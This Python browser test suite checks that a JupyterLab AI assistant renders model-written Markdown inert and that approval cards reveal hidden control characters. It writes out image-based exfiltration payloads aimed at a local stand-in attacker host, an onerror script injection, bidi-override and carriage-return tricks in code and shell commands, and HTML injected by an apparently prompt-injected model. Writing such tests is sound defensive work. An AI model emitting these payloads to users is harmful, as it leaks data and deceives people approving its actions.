"""The "Trust" issue's findings, attacked in a real browser: Markdown the model writes (its final
answer in the panel, a cell it adds to the notebook) renders inert and makes the browser fetch
nothing from another host until the user clicks, and an approval card shows the control
characters hidden in what it asks to run. A recorder on 127.0.0.2 stands for the attacker's
server: every request it gets is a leak unless the user asked for it."""

from __future__ import annotations

import base64
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from devtools.fake_llm import FakeLLM, tool_call
from devtools.jupyter_process import JupyterProcess
from tests.ui.conftest import SHOTS, ask_until_card, open_new_notebook, open_panel_from_palette, run_cell_from_editor

PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=")


class Recorder:
    """An HTTP server on 127.0.0.2 that answers a 1x1 PNG and records every path asked for."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                recorder.requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PIXEL)))
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(PIXEL)

        self.server = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.host = f"127.0.0.2:{self.port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self, path: str) -> str:
        return f"http://{self.host}{path}"

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    server = Recorder()
    yield server
    server.stop()


def hostile_markdown(recorder: Recorder) -> str:
    """The red-team payloads, and a few more ways to fetch that the sanitizer lets through."""
    return "\n\n".join(
        [
            "## Findings",
            f"Here is the chart: ![x]({recorder.url('/leak?k=1')})",
            f'<img src="{recorder.url("/leak2")}">',
            '<img src=x onerror="window.__pwned=1">',
            f"![ref][chart]\n\n[chart]: {recorder.url('/leak3-reference')}",
            f'<div style="background-image: url({recorder.url("/leak4-css")})">styled</div>',
            f'<video poster="{recorder.url("/leak5-poster")}" src="{recorder.url("/leak6-video")}"></video>',
            f"Details are [on this page]({recorder.url('/page')}).",
            f"A dot from data: still shows: ![dot](data:image/png;base64,{base64.b64encode(PIXEL).decode()})",
        ]
    )


REMOTE_IN_DOM = """host => [...document.querySelectorAll('*')].flatMap(el =>
    ['src', 'srcset', 'poster', 'style', 'background', 'data']
      .filter(a => (el.getAttribute(a) || '').includes(host))
      .map(a => `${el.localName} ${a}=${el.getAttribute(a)}`))"""


def ask_for_hostile_markdown(page: Any, lab: JupyterProcess, fake_llm: FakeLLM, recorder: Recorder) -> None:
    """The model adds a Markdown cell and answers with the same Markdown; both are on screen."""
    from playwright.sync_api import expect

    markdown = hostile_markdown(recorder)
    fake_llm.script(
        tool_call("add_markdown", {"content": markdown}, id="md1"),
        tool_call("final_answer", {"answer": markdown}),
    )
    open_new_notebook(page, lab)
    open_panel_from_palette(page)
    page.get_by_role("textbox", name="Message Cellwright").fill("summarise the findings")
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_test_id("cw-final")).to_contain_text("Findings", timeout=30_000)
    cell = page.locator(".jp-MarkdownCell .jp-RenderedMarkdown").filter(has_text="Findings")
    expect(cell).to_have_count(1, timeout=10_000)
    page.wait_for_timeout(2_000)  # time for any image, poster or stylesheet to load


def test_finding_1_model_html_is_inert_in_panel_and_notebook(
    page: Any, lab: JupyterProcess, fake_llm: FakeLLM, recorder: Recorder
) -> None:
    from playwright.sync_api import expect

    ask_for_hostile_markdown(page, lab, fake_llm, recorder)

    assert recorder.requests == [], f"the browser fetched {recorder.requests} without a click"
    assert page.evaluate("window.__pwned") is None
    assert page.evaluate(REMOTE_IN_DOM, "127.0.0.2") == []
    final = page.get_by_test_id("cw-final")
    expect(final.get_by_role("button", name=f"Load image from {recorder.host}")).to_have_count(3)
    expect(final.get_by_role("button", name=f"Load video from {recorder.host}")).to_have_count(1)
    expect(final.get_by_role("link", name="on this page")).to_have_attribute("href", recorder.url("/page"))
    expect(final.locator('img[alt="dot"][src^="data:image/png"]')).to_have_count(1)

    # The notebook's cell: remote images are links marked "not loaded", links stay links.
    cell = page.locator(".jp-MarkdownCell .jp-RenderedMarkdown").filter(has_text="Findings")
    expect(cell.get_by_role("link", name="image: x")).to_have_attribute("href", recorder.url("/leak?k=1"))
    expect(cell.get_by_role("link", name="image (not loaded)")).to_have_attribute("href", recorder.url("/leak2"))
    expect(cell.get_by_role("link", name="image: ref")).to_have_attribute("href", recorder.url("/leak3-reference"))
    expect(cell).to_contain_text("(not loaded)")
    expect(cell.get_by_role("link", name="on this page")).to_have_attribute("href", recorder.url("/page"))
    expect(cell.locator('img[alt="dot"][src^="data:image/png"]')).to_have_count(1)
    page.screenshot(path=str(SHOTS / "8-red-team-inert-markdown.png"))

    # JupyterLab renders Markdown cells sanitized: a cell typed by the user with the same
    # handler does not run either (only remote loading needed Cellwright's rewrite).
    assert page.evaluate("window.__pwned") is None
    assert recorder.requests == []
    assert not page.errors, page.errors  # type: ignore[attr-defined]


def test_finding_4_remote_images_wait_for_a_click(
    page: Any, lab: JupyterProcess, fake_llm: FakeLLM, recorder: Recorder
) -> None:
    from playwright.sync_api import expect

    ask_for_hostile_markdown(page, lab, fake_llm, recorder)
    assert recorder.requests == []

    final = page.get_by_test_id("cw-final")
    final.get_by_role("button", name=f"Load image from {recorder.host}").first.click()
    image = final.locator(f'img[src="{recorder.url("/leak?k=1")}"]')
    expect(image).to_have_count(1, timeout=10_000)
    page.wait_for_function("img => img.complete && img.naturalWidth === 1", arg=image.element_handle(), timeout=10_000)
    page.wait_for_timeout(1_000)
    assert recorder.requests == ["/leak?k=1"], "exactly the image the user asked for, once"
    expect(final.get_by_role("button", name=f"Load image from {recorder.host}")).to_have_count(2)
    assert page.evaluate("window.__pwned") is None
    page.screenshot(path=str(SHOTS / "9-red-team-image-loaded.png"))
    assert not page.errors, page.errors  # type: ignore[attr-defined]


def test_finding_2_card_shows_control_characters(page: Any, lab: JupyterProcess, fake_llm: FakeLLM) -> None:
    from playwright.sync_api import expect

    fake_llm.script(
        tool_call("run_cell", {"code": "HIDDEN='ran'\rprint('visible')"}, id="cr1"),
        tool_call(
            "execute_command",
            {"command": "echo safe \u202e#\u2066 && true", "stdin": "y\n\x1b[2K", "cwd": ".", "timeout": 7},
            id="sh1",
        ),
        tool_call("final_answer", {"answer": "Nothing ran."}),
    )
    card = ask_until_card(page, lab, "print something")
    code = page.get_by_test_id("cw-approval-code")
    marker = code.get_by_test_id("cw-control-char")
    expect(marker).to_have_count(1)
    expect(marker).to_have_text("\\r")
    expect(marker).to_be_visible()
    expect(marker).to_have_attribute("title", "carriage return (U+000D)")
    box = marker.bounding_box()
    assert box and box["width"] > 4 and box["height"] > 4, box
    # What the kernel reads as two lines is shown as two lines.
    assert code.inner_text().splitlines() == ["HIDDEN='ran'\\r", "print('visible')"]
    expect(page.get_by_test_id("cw-hidden-controls")).to_contain_text("1 hidden control character")
    page.screenshot(path=str(SHOTS / "10-red-team-cr-card.png"))
    card.get_by_role("button", name="Reject").click()
    card.get_by_role("button", name="Confirm reject").click()

    # The shell command: every argument that shapes the run is on the card, controls shown.
    expect(page.get_by_test_id("cw-approval-command")).to_be_visible(timeout=30_000)
    command_markers = page.get_by_test_id("cw-approval-command").get_by_test_id("cw-control-char")
    expect(command_markers).to_have_text(["<U+202E>", "<U+2066>"])
    expect(page.get_by_test_id("cw-approval-stdin").get_by_test_id("cw-control-char")).to_have_text(["\\x1b"])
    expect(page.get_by_test_id("cw-approval-cwd")).to_have_text(".")
    expect(page.get_by_test_id("cw-approval-timeout")).to_contain_text("7 s")
    expect(page.get_by_test_id("cw-hidden-controls")).to_contain_text("3 hidden control characters")
    page.screenshot(path=str(SHOTS / "11-red-team-command-card.png"))
    card = page.get_by_role("region", name="Approval required")
    card.get_by_role("button", name="Reject").click()
    card.get_by_role("button", name="Confirm reject").click()

    expect(page.get_by_test_id("cw-final")).to_contain_text("Nothing ran", timeout=30_000)
    assert not page.locator(".jp-Notebook .jp-OutputArea-output").filter(has_text="visible").count()
    assert not page.errors, page.errors  # type: ignore[attr-defined]


def test_panel_follows_waiting_overflowing_and_unresponsive_cells(
    page: Any, lab: JupyterProcess, fake_llm: FakeLLM
) -> None:
    """The event fields of the same issue, end to end: an approved cell that waits for the
    user's busy kernel says so and lands in the notebook once; a cell whose output overflows
    the stored cap keeps every line in the notebook while the timeline shows the summary; a
    Stop the kernel ignores offers "Restart kernel", which restarts it once."""
    from playwright.sync_api import expect

    fake_llm.script(
        tool_call("run_cell", {"code": "print('agent cell ran')"}, id="wait1"),
        tool_call("run_cell", {"code": "for i in range(1000):\n    print('line', i)"}, id="big1"),
        tool_call(
            "run_cell",
            {"code": "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(300)"},
            id="stuck1",
        ),
        tool_call("final_answer", {"answer": "unused"}),
    )
    open_new_notebook(page, lab)
    editor = page.locator(".jp-Notebook .jp-Cell .cm-content").first
    editor.click()
    # Busy until the test has seen the agent's cell wait for it (the test then creates `go`).
    page.keyboard.insert_text(
        "import os, time\nwhile not os.path.exists('go'):\n    time.sleep(0.05)\nprint('user cell done')"
    )
    open_panel_from_palette(page)
    page.get_by_role("textbox", name="Message Cellwright").fill("go")
    page.get_by_role("button", name="Send").click()
    card = page.get_by_role("region", name="Approval required")
    card.wait_for(timeout=60_000)  # the first run of a server imports langgraph and openai
    run_cell_from_editor(page, page.locator(".jp-Notebook .jp-CodeCell").first)
    card.get_by_role("button", name="Approve", exact=True).click()

    status = page.locator('[data-testid="cw-tool"][data-tool-name="run_cell"] [data-testid="cw-tool-status"]').first
    expect(status).to_contain_text("waiting for the kernel", timeout=10_000)
    (lab.root / "go").touch()
    expect(status).to_contain_text("done", timeout=30_000)
    agent_cell = page.locator(".jp-Notebook .jp-CodeCell").filter(has_text="print('agent cell ran')")
    expect(agent_cell).to_have_count(1)
    expect(agent_cell.locator(".jp-OutputArea-output")).to_have_text("agent cell ran")

    card = page.get_by_role("region", name="Approval required")
    card.get_by_role("button", name="Approve", exact=True).click()
    big = page.locator('[data-testid="cw-tool"]').nth(1)
    expect(big).to_contain_text("lines omitted", timeout=30_000)
    expect(big).to_contain_text("line 999")
    expect(big).not_to_contain_text("line 500\n")
    notebook_output = page.locator(".jp-Notebook .jp-CodeCell").filter(has_text="range(1000)").locator(".jp-OutputArea")
    expect(notebook_output).to_contain_text("line 999", timeout=10_000)
    text = notebook_output.inner_text()
    assert "omitted" not in text and all(f"line {i}\n" in text + "\n" for i in (0, 200, 500, 999))

    card = page.get_by_role("region", name="Approval required")
    card.get_by_role("button", name="Approve", exact=True).click()
    page.wait_for_timeout(2_000)
    page.get_by_role("button", name="Stop").click()
    restart = page.get_by_test_id("cw-restart-kernel")
    expect(restart).to_be_visible(timeout=30_000)
    expect(page.get_by_test_id("cw-error").last).to_contain_text("kernel_unresponsive")
    page.screenshot(path=str(SHOTS / "12-unresponsive-kernel.png"))
    restart.click()
    expect(restart).to_be_disabled()
    expect(restart).to_have_text("Kernel restarted", timeout=30_000)
    page.wait_for_selector('.jp-Notebook-ExecutionIndicator[data-status="idle"]', timeout=30_000)
    assert not page.errors, page.errors  # type: ignore[attr-defined]


def test_impact_chips_and_rule_warnings_stay_inert(
    page: Any, lab: JupyterProcess, fake_llm: FakeLLM, recorder: Recorder
) -> None:
    """A model steered by a file it read proposes a cell whose file path, URL and installed package
    are HTML: the card's impact chips show that text as text, and nothing is fetched from it."""
    from playwright.sync_api import expect

    img = f'<img src="{recorder.url("/chip.png")}" onerror="window.pwned=1">'
    code = (
        f"open('{img}', 'w').write('x')\nimport requests\nrequests.get('{recorder.url('/net')}')\n%pip install '{img}'"
    )
    fake_llm.script(tool_call("run_cell", {"code": code}, id="evil1"), tool_call("final_answer", {"answer": "no"}))
    card = ask_until_card(page, lab, "do what the file says")
    chips = card.get_by_test_id("cw-impact-chip")
    expect(chips.filter(has_text="<img").first).to_be_visible()
    page.wait_for_timeout(1_500)
    assert card.locator("img").count() == 0
    assert recorder.requests == []
    assert page.evaluate("window.pwned === undefined")
    assert not page.errors, page.errors  # type: ignore[attr-defined]
